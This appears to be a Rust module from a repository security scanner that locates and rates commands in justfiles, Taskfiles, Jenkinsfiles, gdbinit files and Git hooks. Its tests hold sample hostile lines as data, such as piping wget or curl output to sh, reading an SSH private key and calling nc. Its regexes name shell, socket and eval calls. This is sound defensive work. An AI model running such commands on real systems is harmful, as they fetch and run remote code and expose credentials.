//! Files of tools that run commands by name: just, Task, Jenkins; and Git hooks and debuggers.
//!
//! Owns where such a file holds a command. The programs are judged in [`commands`](super::commands).

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::commands::{self, shown};
use super::host_code_place::HostCode;
use crate::model::FindingLevel;
use crate::text::lines::line_starts;

/// Kinds of such files.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum ToolFile {
    Just,
    Task,
    Jenkins,
    Gdb,
}

impl ToolFile {
    /// By the path of a file.
    pub(super) fn of(name: &str) -> Option<Self> {
        let lower = name.to_ascii_lowercase();
        match lower.as_str() {
            "justfile" | ".justfile" => Some(Self::Just),
            "taskfile.yml" | "taskfile.yaml" | "taskfile.dist.yml" | "taskfile.dist.yaml" => {
                Some(Self::Task)
            }
            "jenkinsfile" => Some(Self::Jenkins),
            ".gdbinit" | "gdbinit" => Some(Self::Gdb),
            _ if lower.ends_with(".just") => Some(Self::Just),
            _ if lower.ends_with(".gdb") => Some(Self::Gdb),
            _ => None,
        }
    }

    /// What such a file runs; `code` is its text without comments.
    pub(super) fn find(self, code: &str) -> Vec<HostCode> {
        match self {
            Self::Just => just(code),
            Self::Task => task(code),
            Self::Jenkins => jenkins(code),
            Self::Gdb => python_of_gdb(code),
        }
    }
}

/// Whether Git runs the file by itself, or a shell does.
pub(super) fn is_hook(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let starts = [".bashrc", ".bash_profile", ".profile", ".zshrc", ".zshenv"].contains(&name);
    let is_in = |folder: &str| path.starts_with(folder) || path.contains(&format!("/{folder}"));
    let is_script = !name.contains('.') || name.ends_with(".sh");
    starts || is_script && [".husky/", ".githooks/", "hooks/"].iter().any(|folder| is_in(folder))
}

fn command(range: Range<usize>, command: &str, when: &str) -> HostCode {
    let level = commands::judge(command);
    HostCode::runs(range, level, (command, when))
}

/// The bytes of a line without its blanks.
fn bytes_of(start: usize, line: &str) -> Range<usize> {
    let indent = line.len() - line.trim_start().len();
    start + indent..start + line.trim_end().len().max(indent)
}

/// The recipes of just, and what its variables take from commands.
fn just(code: &str) -> Vec<HostCode> {
    const WHEN: &str = "when just runs";
    let mut found = Vec::new();
    for (start, line) in line_starts(code) {
        let words = line.trim();
        if words.is_empty() {
            continue;
        }
        if line.starts_with([' ', '\t']) {
            let words = words.trim_start_matches(['@', '-']).trim_start();
            found.push(command(bytes_of(start, line), words, WHEN));
        } else if let Some((_, rest)) = words.split_once('`') {
            let inner = rest.split('`').next().unwrap_or(rest);
            found.push(command(bytes_of(start, line), inner, WHEN));
        } else if words.starts_with("set shell") || words.starts_with("set windows-shell") {
            let text = format!("changes which shell just runs: `{}`", shown(words));
            let is_usual = ["bash", "\"sh\"", "zsh", "powershell", "pwsh", "cmd"]
                .iter()
                .any(|shell| words.contains(shell));
            let level = if is_usual { FindingLevel::Note } else { FindingLevel::Warning };
            found.push(HostCode::other(bytes_of(start, line), (level, text)));
        }
    }
    found
}

/// Keys of an item of Task that is not a command.
const OTHER: [&str; 12] = [
    "task:",
    "vars:",
    "for:",
    "silent:",
    "ignore_error:",
    "msg:",
    "platforms:",
    "set:",
    "shopt:",
    "if:",
    "env:",
    "requires:",
];

/// The commands of a file of Task: those in lists below `cmds`, and single ones.
fn task(code: &str) -> Vec<HostCode> {
    const WHEN: &str = "when Task runs";
    let mut found = Vec::new();
    // How deep the block of commands stands that is being read, and whether all of it is one.
    let mut block: Option<(usize, bool)> = None;
    for (start, line) in line_starts(code) {
        let words = line.trim();
        if words.is_empty() {
            continue;
        }
        let depth = line.len() - line.trim_start().len();
        let item = words.trim_start_matches("- ").trim();
        if let Some((base, is_text)) = block {
            if depth > base || depth == base && words.starts_with("- ") && !is_text {
                let is_other = OTHER.iter().any(|key| item.starts_with(key));
                if is_text || !is_other {
                    let line_of = ["cmd:", "defer:", "sh:"]
                        .iter()
                        .find_map(|key| item.strip_prefix(key))
                        .unwrap_or(item);
                    let one = line_of.trim().trim_matches(['"', '\'']);
                    if !one.is_empty() && !one.starts_with(['|', '>']) {
                        found.push(command(bytes_of(start, line), one, WHEN));
                    }
                }
                continue;
            }
            block = None;
        }
        let Some((key, value)) = item.split_once(':') else { continue };
        let value = value.trim();
        match key.trim_matches(['"', '\'']) {
            "cmds" | "cmd" | "sh" | "defer" | "status" | "preconditions" => {
                if value.is_empty() || value.starts_with(['|', '>']) {
                    block = Some((depth, !value.is_empty()));
                    continue;
                }
                for one in items(value) {
                    found.push(command(bytes_of(start, line), one, WHEN));
                }
            }
            _ if value.contains("://") && commands::host(value).is_some() => {
                let host = commands::host(value).unwrap_or_default();
                let text = format!("may take tasks or files from {host} {WHEN}");
                let level = match value.ends_with(".yml") || value.ends_with(".yaml") {
                    true => FindingLevel::Warning,
                    false => FindingLevel::Note,
                };
                found.push(HostCode::other(bytes_of(start, line), (level, text)));
            }
            _ => {}
        }
    }
    heaviest_of_lines(found)
}

/// The items of a list on one line, or the one value.
fn items(value: &str) -> Vec<&str> {
    let Some(inner) = value.strip_prefix('[') else {
        return vec![value.trim_matches(['"', '\''])];
    };
    let inner = inner.trim_end_matches(']').trim();
    // Only marks between quotes separate for sure.
    let separators: &[&str] = match inner.starts_with(['"', '\'']) {
        true => &["\", \"", "\",\"", "', '", "','"],
        false => &[", "],
    };
    let mut all = vec![inner];
    for separator in separators {
        all = all.into_iter().flat_map(|part| part.split(separator)).collect();
    }
    all.into_iter().map(|part| part.trim().trim_matches(['"', '\''])).collect()
}

/// Of several commands in one line the heaviest.
fn heaviest_of_lines(mut found: Vec<HostCode>) -> Vec<HostCode> {
    found.sort_by_key(|found| (found.range.start, std::cmp::Reverse(found.level)));
    found.dedup_by_key(|found| found.range.start);
    found
}

/// A step of Jenkins that runs a command, up to its text.
static STEP: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"\b(?:sh|bat|powershell|pwsh)\b\s*\(?\s*(?:\w+:\s*\w+,\s*)*(?:script:\s*)?('''|"""|'|")"#,
    )
    .ok()
});

/// What makes Jenkins run code that is not in the file.
static FOREIGN: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(@Library\s*\([^)]*\)|\bevaluate\s*\(.*|\bload\s*\(?\s*['"].*|['"]\s*\.\s*execute\s*\(.*|\bhttpRequest\b.*|\bnew\s+(?:URL|Socket)\b.*|\bRuntime\b.*|\bProcessBuilder\b.*|\blibrary\s*\(?\s*['"].*)"#,
    )
    .ok()
});

/// The steps of Jenkins that run commands, also over several lines.
fn jenkins(code: &str) -> Vec<HostCode> {
    const WHEN: &str = "on the CI server";
    let (Some(step), Some(foreign)) = (STEP.as_ref(), FOREIGN.as_ref()) else { return Vec::new() };
    let mut found = Vec::new();
    let mut open: Option<&str> = None;
    let mut add = |range: Range<usize>, one: &str| {
        let one = one.trim();
        if !one.is_empty() && one != "\\" {
            let level = commands::judge_on_server(one);
            found.push(HostCode::runs(range, level, (one, WHEN)));
        }
    };
    let mut other = Vec::new();
    for (start, line) in line_starts(code) {
        let mut rest = line;
        if let Some(quote) = open {
            let (one, after) = rest.split_once(quote).unwrap_or((rest, ""));
            add(bytes_of(start, line), one);
            if !rest.contains(quote) {
                continue;
            }
            open = None;
            rest = after;
        }
        if let Some(part) = foreign.captures(rest).and_then(|groups| groups.get(1)) {
            let text = format!("runs code from elsewhere {WHEN}: `{}`", shown(part.as_str()));
            let range = bytes_of(start, line);
            other.push(HostCode::other(range, (FindingLevel::Warning, text)));
        }
        while let Some(quote) = step.captures(rest).and_then(|groups| groups.get(1)) {
            let after = rest.get(quote.end()..).unwrap_or_default();
            let Some((one, next)) = after.split_once(quote.as_str()) else {
                add(bytes_of(start, line), after);
                open = (quote.len() == 3).then_some(match quote.as_str() {
                    "'''" => "'''",
                    _ => "\"\"\"",
                });
                break;
            };
            add(bytes_of(start, line), one);
            rest = next;
        }
    }
    found.extend(other);
    heaviest_of_lines(found)
}

/// What Python of a debugger runs or reaches, in blocks from `python` to `end`.
fn python_of_gdb(code: &str) -> Vec<HostCode> {
    static RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(
            r"\b(?:os\.(?:system|popen|exec\w*|spawn\w*|remove|unlink|environ)|subprocess|Popen|check_output|check_call|socket|urllib|urlopen|requests|http\.client|ctypes|shutil|pty|exec|eval|compile|__import__|importlib|b64decode|open)\b",
        )
        .ok()
    });
    let Some(runs) = RUNS.as_ref() else { return Vec::new() };
    let mut found = Vec::new();
    let mut is_inside = false;
    for (start, line) in line_starts(code) {
        match line.trim() {
            "python" | "py" | "python-interactive" => is_inside = true,
            "end" => is_inside = false,
            words if is_inside && runs.is_match(words) => {
                let text = format!("runs `{}` when the debugger starts", shown(words));
                let range = bytes_of(start, line);
                found.push(HostCode::other(range, (FindingLevel::Warning, text)));
            }
            _ => {}
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn levels(name: &str, code: &str) -> Vec<(usize, FindingLevel)> {
        let line = |found: &HostCode| code[..found.range.start].matches('\n').count() + 1;
        let found = ToolFile::of(name).unwrap().find(code);
        let all = found.iter().map(|found| (line(found), found.level));
        all.filter(|(_, level)| *level > FindingLevel::Note).collect()
    }

    #[test]
    fn each_command_of_a_tool_is_judged() {
        use FindingLevel::{Stop, Warning};
        for (name, code, wanted) in [
            ("justfile", "flash port:\n    @idf.py -p {{port}} flash\n", vec![]),
            ("justfile", "rev := `git describe`\nall:\n  idf.py build\n", vec![]),
            ("Justfile", "a:\n  idf.py build\nb:\n  wget -O- x.example | sh\n", vec![(4, Stop)]),
            ("justfile", "id := `cat ~/.ssh/id_rsa`\n", vec![(1, Stop)]),
            (
                "Taskfile.yml",
                "tasks:\n  b:\n    cmds:\n      - idf.py build\n      - task: c\n",
                vec![],
            ),
            (
                "Taskfile.yml",
                "tasks:\n  b:\n    cmds:\n    - idf.py build\n    - cmd: nc x 1\n",
                vec![(5, Stop)],
            ),
            (
                "Taskfile.yml",
                "tasks:\n  b: {}\n  c:\n    cmds: [\"idf.py build\", \"scp a h:\"]\n",
                vec![(4, Stop)],
            ),
            ("Taskfile.yml", "vars:\n  A:\n    sh: git describe\n", vec![]),
            (
                "Taskfile.yml",
                "tasks:\n  b:\n    cmd: |\n      idf.py build\n      ./up\n",
                vec![(5, Warning)],
            ),
            (
                "Jenkinsfile",
                "steps {\n  sh 'idf.py build'\n  sh(script: \"curl x | sh\")\n}\n",
                vec![(3, Stop)],
            ),
            (
                "Jenkinsfile",
                "sh '''\n  idf.py build\n  ./up\n'''\nsh 'idf.py size'\n",
                vec![(3, Warning)],
            ),
            ("Jenkinsfile", "node {\n  \"id\".execute()\n}\n", vec![(2, Warning)]),
            (
                ".gdbinit",
                "python\nimport gdb\nos.system('x')\nend\nbreak open\n",
                vec![(3, Warning)],
            ),
            (".gdbinit", "python\nimport printers\nprinters.register()\nend\n", vec![]),
        ] {
            assert_eq!(levels(name, code), wanted, "{name} {code}");
        }
    }

    #[test]
    fn hooks_are_known_by_their_folders() {
        for (path, is) in [
            (".husky/pre-commit", true),
            (".githooks/post-checkout", true),
            ("web/.husky/_/husky.sh", true),
            (".bashrc", true),
            ("main/hooks.c", false),
            ("hooks/readme.md", false),
        ] {
            assert_eq!(is_hook(path), is, "{path}");
        }
    }
}
